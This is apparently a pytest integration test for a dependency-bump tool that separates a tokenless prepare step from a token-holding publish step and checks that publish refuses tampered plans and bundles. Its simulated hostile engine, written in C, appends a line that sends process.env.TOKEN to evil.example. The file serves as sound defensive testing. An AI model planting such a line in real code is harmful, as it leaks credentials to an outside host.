"""The split bump: a prepare half that runs upstream code without any forge token, and a
publish half that holds the token, verifies what prepare wrote and runs no upstream code.

The engines are real ELF programs compiled here and served as release assets by the
local GitHub; the candidate is hostile (it rewrites a locator file in the worktree it was
installed into while the gate runs it). The remote is a local bare repository.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import pytest

from llamapin.config import load_config
from llamapin.pin import Asset, Pin
from llamapin.upstream.bump import worktree_path
from tests.conftest import COMMIT_10068, CliResult
from tests.fakes.github import FakeGitHub
from tests.gitremote import git
from tests.integration.test_upstream import (
    APP,
    LATER,
    LLAMA,
    PUBLISHED,
    SUBJECTS,
    app_repo,
    commit_of,
    error_line,
    when,
    writes,
)

ENGINE_C = r"""
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
    FILE *log = fopen(LOG, "a");
    if (log) { fprintf(log, "%s %s\n", BUILD, argc > 1 ? argv[1] : "-"); fclose(log); }
    if (argc > 1 && strcmp(argv[1], "--version") == 0) {
        printf("version: %s (%s)\nbuilt with cc for x86_64-linux-gnu\n", BUILD, COMMIT);
        return 0;
    }
#ifdef TAMPER
    if (access(FLAG, F_OK) == 0) {  /* plant code in the nearest src/engine.ts above me */
        char self[PATH_MAX];
        ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
        char *cut;
        if (n > 0) {
            self[n] = 0;
            while ((cut = strrchr(self, '/')) != NULL) {
                char path[PATH_MAX + 32];
                *cut = 0;
                snprintf(path, sizeof path, "%s/src/engine.ts", self);
                FILE *f = fopen(path, "a");
                if (f) { fputs("fetch('https://evil.example/?' + process.env.TOKEN);\n", f);
                         fclose(f); break; }
            }
        }
    }
#endif
    fprintf(stderr, "error: not a real llama-server\n");
    return 1;
}
"""
SECRET = "ghp_" + "Wr1t3T0k3nF0rPubl1sh" * 2


def engine_zip(tmp: Path, number: int, log: Path, flag: Path, tamper: bool) -> bytes:
    """A release-shaped zip (build/bin/llama-server) holding a real ELF for build ``number``."""
    src = tmp / f"engine{number}.c"
    src.write_text(ENGINE_C)
    exe = tmp / f"llama-server-{number}"
    defs = [
        f'-DLOG="{log}"',
        f'-DFLAG="{flag}"',
        f'-DBUILD="{number}"',
        f'-DCOMMIT="{commit_of(number)[:9]}"',
    ] + (["-DTAMPER"] if tamper else [])
    subprocess.run(["gcc", "-O1", "-o", str(exe), str(src), *defs], check=True)
    out = tmp / f"llama-b{number}-bin-ubuntu-x64.zip"
    with zipfile.ZipFile(out, "w") as zf:
        info = zipfile.ZipInfo("build/bin/llama-server")
        info.external_attr = 0o100755 << 16
        zf.writestr(info, exe.read_bytes())
    return out.read_bytes()


def refs(bare: Path) -> str:
    return git(bare, "for-each-ref")


def plan_of(out: Path) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((out / "plan.json").read_text())
    return data


def tampered(src: Path, dest: Path, **changes: Any) -> Path:
    shutil.copytree(src, dest)
    plan = {**plan_of(src), **changes}
    (dest / "plan.json").write_text(json.dumps(plan))
    return dest


@pytest.fixture
def release_app(
    tmp_path: Path, github: FakeGitHub, monkeypatch: pytest.MonkeyPatch
) -> dict[str, Any]:
    monkeypatch.delenv("GITHUB_TOKEN", raising=False)
    monkeypatch.delenv("LLAMAPIN_BUMP_TOKEN", raising=False)
    tools = tmp_path / "tools"
    tools.mkdir()
    log, flag = tmp_path / "engine-runs.log", tmp_path / "tamper"
    old = engine_zip(tools, 10068, log, flag, tamper=False)
    new = engine_zip(tools, 10088, log, flag, tamper=True)
    old_name, new_name = "llama-b10068-bin-ubuntu-x64.zip", "llama-b10088-bin-ubuntu-x64.zip"
    pin = Pin(
        "b10068",
        COMMIT_10068,
        {"linux-x64": Asset(old_name, hashlib.sha256(old).hexdigest(), len(old))},
    )
    engine = {
        "source": "release",
        "platform": "linux-x64",
        "base_url": github.url,
        "package": "llamapin-no-such-package",
    }
    forge = {"api_url": github.api, "repo": APP, "token_env": "LLAMAPIN_BUMP_TOKEN"}
    root, bare = app_repo(tmp_path, github, pin, engine=engine, forge=forge)
    # a second commit on main, so that a real but wrong base exists
    (root / "README.md").write_text("app\n")
    git(root, "add", "README.md")
    git(root, "commit", "--quiet", "-m", "readme")
    git(root, "push", "--quiet", "origin", "main")
    github.add_release(
        LLAMA, "b10068", COMMIT_10068, when(PUBLISHED[10068]), [(old_name, old, True)]
    )
    github.add_release(
        LLAMA, "b10088", commit_of(10088), when(PUBLISHED[10088]), [(new_name, new, True)]
    )
    github.add_compare(LLAMA, COMMIT_10068, commit_of(10088), SUBJECTS, ["src/llama.cpp"])
    return {"root": root, "bare": bare, "log": log, "flag": flag, "tmp": tmp_path}


def prepare(run_cli: Any, root: Path, out: Path) -> CliResult:
    res: CliResult = run_cli(
        "--root", str(root), "bump", "--prepare", str(out), "--now", LATER, "--json"
    )
    return res


def publish(run_cli: Any, root: Path, out: Path, *extra: str) -> CliResult:
    res: CliResult = run_cli("--root", str(root), "bump", "--publish", str(out), *extra)
    return res


@pytest.mark.engine
def test_prepare_then_publish_and_publish_refuses_tampered_changes(
    release_app: dict[str, Any],
    github: FakeGitHub,
    run_cli: Any,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    root, bare, log, tmp = (release_app[k] for k in ("root", "bare", "log", "tmp"))
    before = refs(bare)
    out = tmp / "out"
    # --- prepare: no token anywhere in the environment; upstream code runs here -----------
    res = prepare(run_cli, root, out)
    assert res.code == 0, res.err
    result = json.loads(res.out)
    assert result["action"] == "prepared" and result["verdict"] == "fail"
    ran = log.read_text().splitlines()
    assert "10088 --version" in ran and "10068 --version" in ran  # both engines really ran
    assert writes(github) == [] and refs(bare) == before  # prepare pushed and posted nothing
    assert not [c for c in github.calls if c.authorization]
    plan = plan_of(out)
    main = git(bare, "rev-parse", "refs/heads/main").strip()
    assert plan["branch"] == "llamapin/bump-b10088" and plan["base_sha"] == main
    assert sorted(plan["files"]) == ["llamapin.lock", "src/engine.ts"]
    assert (out / "change.bundle").is_file() and (out / "gate.md").is_file()
    assert "## llamapin gate:" in (out / "gate.md").read_text()
    assert git(root, "status", "--porcelain") == ""  # the user's checkout was not touched

    monkeypatch.setenv("LLAMAPIN_BUMP_TOKEN", SECRET)

    def refused(case: Path, why: str) -> None:
        res = publish(run_cli, root, case)
        assert res.code == 2, res.out + res.err
        line = error_line(res)
        assert line.startswith("error: refusing to publish the prepared bump: "), res.err
        assert why in line, line
        assert writes(github) == [] and refs(bare) == before
        assert SECRET not in res.out + res.err

    # --- tampered plans --------------------------------------------------------------------
    refused(
        tampered(out, tmp / "t-branch", branch="llamapin/bump-b10091", build="b10091"),
        "change.bundle does not hold exactly the commit the plan names",
    )
    refused(tampered(out, tmp / "t-main", branch="main"), "plan.json field branch")
    refused(tampered(out, tmp / "t-extra", extra="x"), "plan.json field extra")
    refused(tampered(out, tmp / "t-files", files=["llamapin.lock"]), "not the ones the plan")
    parent = git(bare, "rev-parse", "refs/heads/main~1").strip()
    refused(tampered(out, tmp / "t-base", base_sha=parent), "is not one commit on top of")
    refused(tampered(out, tmp / "t-nobase", base_sha="a" * 40), "is not on branch main")
    refused(tampered(out, tmp / "t-onto", base="release"), "was prepared on release")
    big = tampered(out, tmp / "t-big")
    (big / "plan.json").write_bytes(b" " * (600 * 1024))
    refused(big, "over the")
    linked = tampered(out, tmp / "t-link")
    (linked / "plan.json").unlink()
    (linked / "plan.json").symlink_to(out / "plan.json")
    refused(linked, "plan.json is not a regular file")
    garbage = tampered(out, tmp / "t-garbage")
    (garbage / "change.bundle").write_bytes(b"# v2 git bundle\nnot really\n")
    refused(garbage, "does not hold exactly the commit")

    # --- a bundle whose commit also changes a workflow file --------------------------------
    evil = tampered(out, tmp / "t-evil")
    git(root, "fetch", "--quiet", str(out / "change.bundle"), "+refs/*:refs/evil/*")
    wt = tmp / "evil-wt"
    git(root, "worktree", "add", "--quiet", "--detach", str(wt), plan["head_sha"])
    (wt / ".github/workflows").mkdir(parents=True)
    (wt / ".github/workflows/x.yml").write_text("on: push\n")
    git(wt, "add", ".github")
    git(wt, "commit", "--quiet", "--amend", "--no-edit")
    head = git(wt, "rev-parse", "HEAD").strip()
    ref = "refs/llamapin/prepared/llamapin/bump-b10088"
    git(root, "update-ref", ref, head)
    (evil / "change.bundle").unlink()
    git(root, "bundle", "create", "--quiet", str(evil / "change.bundle"), ref, f"^{main}")
    plan_evil = {**plan, "head_sha": head}
    (evil / "plan.json").write_text(json.dumps(plan_evil))
    refused(evil, "the commit changes '.github/workflows/x.yml'")
    # the same commit with its lock and locators only, but a different message
    git(wt, "rm", "--quiet", "-r", ".github")
    git(wt, "commit", "--quiet", "--amend", "-m", "chore: something else")
    head = git(wt, "rev-parse", "HEAD").strip()
    git(root, "update-ref", ref, head)
    (evil / "change.bundle").unlink()
    git(root, "bundle", "create", "--quiet", str(evil / "change.bundle"), ref, f"^{main}")
    (evil / "plan.json").write_text(json.dumps({**plan, "head_sha": head}))
    refused(evil, "subject or trailer")
    git(root, "update-ref", "-d", ref)

    # --- commits that touch only the lock, but not the way bump does ------------------------
    def recommitted(name: str, lock: bytes, chmod: bool = False) -> Path:
        case = tampered(out, tmp / name)
        git(wt, "checkout", "--quiet", "--detach", plan["head_sha"])
        (wt / "llamapin.lock").write_bytes(lock)
        (wt / "llamapin.lock").chmod(0o755 if chmod else 0o644)
        git(wt, "commit", "--quiet", "--amend", "--no-edit", "-a")
        head = git(wt, "rev-parse", "HEAD").strip()
        git(root, "update-ref", ref, head)
        (case / "change.bundle").unlink()
        git(root, "bundle", "create", "--quiet", str(case / "change.bundle"), ref, f"^{main}")
        (case / "plan.json").write_text(json.dumps({**plan, "head_sha": head}))
        git(root, "update-ref", "-d", ref)
        return case

    lock_bytes = git(root, "show", f"{plan['head_sha']}:llamapin.lock").encode()
    refused(recommitted("t-mode", lock_bytes, chmod=True), "in a way bump never does")
    other = lock_bytes.replace(b'build = "b10088"', b'build = "b10091"')
    refused(recommitted("t-build", other), "the commit's lock pins b10091, the plan says b10088")
    refused(recommitted("t-toml", b"[pin\nnot toml"), "is not TOML")
    refused(recommitted("t-bytes", b"\xff\xfe" + lock_bytes), "holds text that is not UTF-8")

    # --- a hostile engine rewrites a locator file while the gate runs it --------------------
    release_app["flag"].write_text("go\n")
    hostile = tmp / "hostile"
    res = prepare(run_cli, root, hostile)
    assert res.code == 0, res.err
    assert plan_of(hostile)["files"] == plan["files"]  # it committed what the engine left
    refused(hostile, "src/engine.ts in the commit is not what llamapin writes for b10088")
    release_app["flag"].unlink()

    # --- the genuine change publishes, and publish runs no engine ---------------------------
    stale = worktree_path(load_config(root), root, "publish-llamapin/bump-b10088")
    stale.mkdir(parents=True)  # left by an interrupted publish: removed, never reused
    (stale / "leftover").write_text("x")
    runs = log.read_text()
    res = publish(run_cli, root, out, "--status")
    assert res.code == 0, res.err
    assert res.out.startswith("opened PR #1 for b10088 (gate fail) as a draft")
    assert log.read_text() == runs  # no upstream binary ran in the half holding the token
    tip = git(bare, "rev-parse", "refs/heads/llamapin/bump-b10088").strip()
    assert tip == plan["head_sha"]
    pr = github.pr(APP, 1)
    assert pr["draft"] is True and pr["head"]["sha"] == tip
    assert pr["title"] == "chore(engine): bump llama.cpp b10068 -> b10088"
    assert pr["body"] == plan["body"]
    status = github.repos[APP].statuses[0]
    assert status["state"] == "failure" and status["sha"] == tip
    posted = [c for c in github.calls if c.method != "GET"]
    assert posted and all(c.authorization == f"Bearer {SECRET}" for c in posted)
    assert SECRET not in res.out + res.err
    engine_ts = git(bare, "show", f"{tip}:src/engine.ts")
    assert "evil" not in engine_ts and 'LLAMA_BUILD = "b10088"' in engine_ts
    # publishing the same change again: the PR already proposes it
    again = publish(run_cli, root, out)
    assert again.code == 0 and again.out.startswith("PR #1 already proposes b10088")
    # the branch moved on (an older pin of the same build): publish updates the PR in place
    git(wt, "checkout", "--quiet", "--detach", tip)
    (wt / "llamapin.lock").write_text(lock_bytes.decode() + "# an older proposal\n")
    git(wt, "commit", "--quiet", "-a", "-m", "older\n\nLlamapin-Bump: b10088")
    git(wt, "push", "--quiet", "--force", str(bare), "HEAD:refs/heads/llamapin/bump-b10088")
    res = publish(run_cli, root, out)
    assert res.code == 0, res.err
    assert "proposes an older pin of b10088: updating it in place" in res.out + res.err
    assert git(bare, "rev-parse", "refs/heads/llamapin/bump-b10088").strip() == tip
    # a person closed the PR without merging: publish does not reopen it
    closed = github.handle(
        "PATCH",
        f"/api/v3/repos/{APP}/pulls/1",
        {"Authorization": f"Bearer {SECRET}"},
        json.dumps({"state": "closed"}).encode(),
    )
    assert closed[0] == 200
    res = publish(run_cli, root, out)
    assert res.code == 0, res.err
    assert github.pr(APP, 1)["state"] == "closed"
    assert not github.forbidden_calls()


def test_prepare_with_nothing_to_bump_writes_a_plan_publish_accepts(
    release_app: dict[str, Any], github: FakeGitHub, run_cli: Any
) -> None:
    root, bare, tmp = release_app["root"], release_app["bare"], release_app["tmp"]
    out = tmp / "out"
    res = run_cli("--root", str(root), "bump", "--prepare", str(out), "--now", PUBLISHED[10088])
    assert res.code == 0, res.err
    assert res.out.startswith("nothing to bump: ")
    assert plan_of(out)["action"] == "none" and not (out / "change.bundle").exists()
    before = refs(bare)
    res = publish(run_cli, root, out)
    assert res.code == 0
    assert res.out == "nothing to bump: the prepare job found no build to adopt\n"
    assert writes(github) == [] and refs(bare) == before
    assert not release_app["log"].exists()  # no engine ran in either half


def test_prepare_refuses_publish_flags_and_needs_a_branch(
    release_app: dict[str, Any], run_cli: Any
) -> None:
    root, tmp = release_app["root"], release_app["tmp"]
    res = run_cli("--root", str(root), "bump", "--prepare", str(tmp / "o"), "--status")
    assert res.code == 2
    assert error_line(res).startswith("error: --prepare takes neither --publish nor --status")
    git(root, "checkout", "--quiet", "--detach")
    res = prepare(run_cli, root, tmp / "o")
    assert res.code == 2
    assert error_line(res).startswith("error: no base branch to prepare the bump on")
    git(root, "checkout", "--quiet", "main")
    git(root, "remote", "set-url", "origin", str(tmp / "gone.git"))
    git(root, "update-ref", "-d", "refs/remotes/origin/main")
    res = prepare(run_cli, root, tmp / "o")
    assert res.code == 2
    assert error_line(res).startswith("error: no refs/remotes/origin/main to prepare the bump on")
